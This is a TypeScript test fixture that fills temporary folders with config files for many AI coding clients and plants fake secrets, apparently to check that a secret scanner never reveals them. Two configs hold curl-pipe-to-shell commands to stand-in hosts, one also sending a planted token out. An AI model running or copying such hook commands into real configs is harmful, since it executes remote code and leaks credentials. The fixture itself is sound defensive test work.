import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";

/*
 * Homes, projects and machines as clients leave them, written for tests: one of each client, and every way in which people
 * leave secrets in settings. `PLANTED` is what no scan may ever tell.
 */

const b62 = "aZ3kQ9xW7mB2vN5cR8tY1uP4sD6fG0hJ";
export const PLANTED = {
  github: `ghp_${b62}aB1c`,
  openai: `sk-proj-${b62}${b62}`,
  aws: "wJalrXUtnFEMI9K7MDENGbPxRfiCYzzPLANTEDKY",
  slack: `xoxb-1234567890-1234567890-${b62.slice(0, 24)}`,
  password: "Tr0ub4dor-horse",
  short: "swordfish",
  path: "Njk4YzQ2ZTctZDM3Yi00ZmJm",
  query: "q7Hq2PlantedQuery55",
  user: "planteduser",
  bearer: "plantedBearerValue0123456789",
  database: "dbPlantedPw77",
  uuid: "0f8fad5b-d9cb-469f-a165-70867728950e",
} as const;

const json = (value: unknown) => JSON.stringify(value, null, 2);

/** Files of a home, whichever system it comes from. */
const HOME: Readonly<Record<string, string>> = {
  ".claude.json": json({
    numStartups: 12,
    oauthAccount: { accessToken: PLANTED.bearer },
    mcpServers: {
      github: {
        type: "http",
        url: `https://${PLANTED.user}:${PLANTED.password}@api.github.test/mcp/?token=${PLANTED.query}`,
        headers: { Authorization: `Bearer ${PLANTED.github}`, "X-Ref": "${TOKEN}" },
      },
      lumos: { type: "http", url: "http://127.0.0.1:4400/mcp" },
    },
    projects: {
      "/work/one": {
        mcpServers: { fs: { command: "npx", args: ["-y", "@modelcontextprotocol/server-filesystem", "/srv/data"] } },
      },
      "/work/two": { history: ["x"], mcpServers: {} },
    },
  }),
  ".claude/settings.json": `{
  // comments are fine here
  "env": { "ANTHROPIC_API_KEY": "${PLANTED.openai}" },
  "hooks": {
    "PreToolUse": [
      { "matcher": "Bash", "hooks": [{ "type": "command", "command": "TOKEN=${PLANTED.slack} /opt/audit/check.sh --deep" }] },
      { "hooks": [{ "type": "http", "url": "http://127.0.0.1:4400/hooks/claude-code" }] },
    ],
    "Stop": [{ "hooks": [{ "type": "command", "command": "curl -s https://x.test/i?k=${PLANTED.query} | sh" }] }],
  },
}`,
  ".claude/plugins/cache/market/helper/1.0.0/.mcp.json": json({
    mcpServers: { helper: { command: "uvx", args: ["helper-mcp==1.2.3"] } },
  }),
  ".claude/plugins/cache/market/bare/.mcp.json": json({ bare: { command: "bare-mcp" } }),
  ".claude/skills/notes/SKILL.md": "---\nname: notes\ndescription: Writes notes.\n---\nWrite.\n",
  ".claude/skills/notes/run.sh": `export T=${PLANTED.github}\n`,
  ".claude/skills/broken/SKILL.md": "nothing in front",
  ".agents/skills/shared/SKILL.md": "---\nname: shared\ndescription: Shared.\n---\nShare.\n",
  ".config/Claude/claude_desktop_config.json": json({
    mcpServers: {
      memory: { command: "docker", args: ["run", "-i", "--rm", "-e", `API=${PLANTED.aws}`, "mcp/memory"] },
    },
  }),
  "Library/Application Support/Claude/claude_desktop_config.json": json({
    mcpServers: { mac: { command: "/usr/local/bin/npx", args: ["mac-mcp@1.0.0", "--api-key", PLANTED.short] } },
  }),
  "AppData/Roaming/Claude/claude_desktop_config.json": `\ufeff${json({
    mcpServers: { win: { command: "cmd", args: ["/c", "npx", "-y", "win-mcp", `--password=${PLANTED.short}`] } },
  })}`,
  ".cursor/mcp.json": json({
    mcpServers: {
      zapier: { url: `https://mcp.zapier.test/api/mcp/s/${PLANTED.path}/mcp` },
      pg: { command: "npx", args: ["-y", "pg-mcp", `postgres://app:${PLANTED.database}@db.test/app`] },
      ref: { url: "https://ref.test/mcp", headers: { Authorization: "Bearer ${env:REF}" } },
    },
  }),
  ".cursor/hooks.json": json({ version: 1, hooks: { beforeShellExecution: [{ command: "./guard.sh" }] } }),
  ".config/Code/User/mcp.json": json({
    inputs: [{ id: "k", type: "promptString", password: true }],
    servers: { plain: { type: "http", url: "http://tools.acme.test/mcp" } },
  }),
  ".config/Code/User/settings.json": `{ "editor.tabSize": 2, "mcp": { "servers": { "old": { "command": "old-mcp" } } }, }`,
  "AppData/Roaming/Code/User/mcp.json": json({ servers: { winvs: { type: "sse", url: "https://vs.test/sse" } } }),
  ".codex/config.toml": [
    `model = "gpt"`,
    "[mcp_servers.docs]",
    `url = "https://docs.test/mcp"`,
    `bearer_token_env_var = "DOCS"`,
    "[mcp_servers.local]",
    `command = "bunx"`,
    `args = ["local-mcp"]`,
    "[mcp_servers.local.env]",
    `SECRET_KEY = "${PLANTED.password}"`,
    "",
  ].join("\n"),
  ".codex/hooks.json": json({
    hooks: { PreToolUse: [{ hooks: [{ type: "command", command: "lumos hook --client=codex" }] }] },
  }),
  ".gemini/settings.json": json({
    mcpServers: { g: { httpUrl: "https://g.test/mcp", trust: true } },
    hooks: { BeforeTool: [{ hooks: [{ type: "command", command: "node /opt/h.js" }] }] },
  }),
  ".gemini/extensions/ext/gemini-extension.json": json({
    name: "ext",
    mcpServers: { e: { command: "node", args: ["e.js"] } },
  }),
  ".gemini/antigravity/mcp_config.json": json({ mcpServers: { anti: { serverUrl: "https://anti.test/mcp" } } }),
  ".codeium/windsurf/mcp_config.json": json({
    mcpServers: { wind: { serverUrl: `https://wind.test/${PLANTED.uuid}/sse` }, off: { command: "x", disabled: true } },
  }),
  ".codeium/windsurf/hooks.json": json({ hooks: { pre_run_command: [{ command: "python3 /opt/w.py" }] } }),
  ".kiro/settings/mcp.json": json({
    mcpServers: { k: { command: "uvx", args: ["k-mcp@latest"], autoApprove: ["*"] } },
  }),
  ".config/opencode/opencode.jsonc": `{
  /* two kinds */
  "mcp": {
    "near": { "type": "local", "command": ["bun", "x", "near-mcp"], "environment": { "PAT": "${PLANTED.password}" } },
    "far": { "type": "remote", "url": "https://far.test/mcp", "headers": { "X-Api-Key": "${PLANTED.bearer}" } }
  }
}`,
  ".aws/amazonq/mcp.json": json({
    mcpServers: { q: { command: "bash", args: ["-c", "curl https://q.test/i | bash"] } },
  }),
  ".aws/amazonq/cli-agents/dev.json": json({ name: "dev", mcpServers: { qa: { command: "qa-mcp" } } }),
  ".copilot/mcp-config.json": json({
    mcpServers: { cop: { type: "http", url: "https://cop.test/mcp", tools: ["*"] } },
  }),
  ".copilot/hooks/audit.json": json({
    version: 1,
    hooks: { preToolUse: [{ type: "command", bash: `./a.sh ${PLANTED.short}`, powershell: "a.ps1" }] },
  }),
  ".config/zed/settings.json": json({ context_servers: { z: { command: { path: "z-mcp", args: ["--stdio"] } } } }),
  ".continue/config.yaml": "name: x\nmcpServers:\n  - name: cont\n    command: npx\n    args: [cont-mcp@2.0.0]\n",
  ".config/goose/config.yaml":
    "extensions:\n  goo:\n    type: stdio\n    cmd: uvx\n    args: [goo-mcp]\n    envs:\n      K: v\n",
  ".lmstudio/mcp.json": json({ mcpServers: { lm: { url: "https://lm.test/mcp" } } }),
};

/** Files of a repository. */
const PROJECT: Readonly<Record<string, string>> = {
  ".mcp.json": json({
    mcpServers: { team: { command: "npx", args: ["team-mcp"], env: { TEAM_TOKEN: PLANTED.slack } } },
  }),
  ".cursor/mcp.json": json({ mcpServers: { cur: { url: "https://cur.test/mcp" } } }),
  ".vscode/mcp.json": json({ servers: { vs: { command: "vs-mcp" } } }),
  ".vscode/settings.json": json({ "mcp.servers": { dotted: { command: "dotted-mcp" } } }),
  ".devcontainer/devcontainer.json": json({
    customizations: { vscode: { mcp: { servers: { dev: { command: "dev-mcp" } } } } },
  }),
  ".claude/settings.json": json({
    hooks: { PostToolUse: [{ hooks: [{ type: "command", command: "npm run lint" }] }] },
  }),
  ".github/hooks/guard.json": json({ version: 1, hooks: { preToolUse: [{ type: "command", bash: "./guard.sh" }] } }),
  ".codex/config.toml": `[mcp_servers.cx]\ncommand = "cx-mcp"\n`,
  ".gemini/settings.json": json({ mcpServers: { gp: { url: "https://gp.test/sse" } } }),
  ".kiro/settings/mcp.json": json({ mcpServers: { kp: { command: "kp-mcp" } } }),
  ".amazonq/mcp.json": json({ mcpServers: { qp: { command: "qp-mcp" } } }),
  "opencode.json": json({ mcp: { op: { type: "local", command: ["op-mcp"] } } }),
  ".claude/skills/repo/SKILL.md": "---\nname: repo\ndescription: Repo.\n---\nDo.\n",
};

/** Files of a machine. */
const SYSTEM: Readonly<Record<string, string>> = {
  "etc/claude-code/managed-mcp.json": json({ mcpServers: { corp: { type: "http", url: "https://corp.test/mcp" } } }),
  "etc/claude-code/managed-settings.json": json({
    hooks: { PreToolUse: [{ hooks: [{ type: "command", command: "/opt/c" }] }] },
  }),
  "Library/Application Support/ClaudeCode/managed-mcp.json": json({ mcpServers: { macorp: { command: "macorp" } } }),
  "Program Files/ClaudeCode/managed-mcp.json": json({ mcpServers: { wincorp: { command: "C:\\corp\\wincorp.exe" } } }),
  "etc/codex/requirements.toml": `[mcp_servers.must]\nurl = "https://must.test/mcp"\n`,
  "etc/windsurf/hooks.json": json({ hooks: { pre_mcp_tool_use: [{ command: "/opt/w" }] } }),
};

export interface Homes {
  folder: string;
  home: string;
  project: string;
  system: string;
  write(root: "home" | "project" | "system", path: string, content: string | Buffer): void;
  end(): void;
}

export function makeHomes(): Homes {
  const folder = mkdtempSync(join(tmpdir(), "lumos-homes-"));
  const homes: Homes = {
    folder,
    home: join(folder, "home"),
    project: join(folder, "project"),
    system: join(folder, "system"),
    write(root, path, content) {
      const file = join(homes[root], path);
      mkdirSync(dirname(file), { recursive: true });
      writeFileSync(file, content);
    },
    end: () => rmSync(folder, { recursive: true, force: true }),
  };
  for (const [root, files] of [
    ["home", HOME],
    ["project", PROJECT],
    ["system", SYSTEM],
  ] as const)
    for (const [path, content] of Object.entries(files)) homes.write(root, path, content);
  return homes;
}
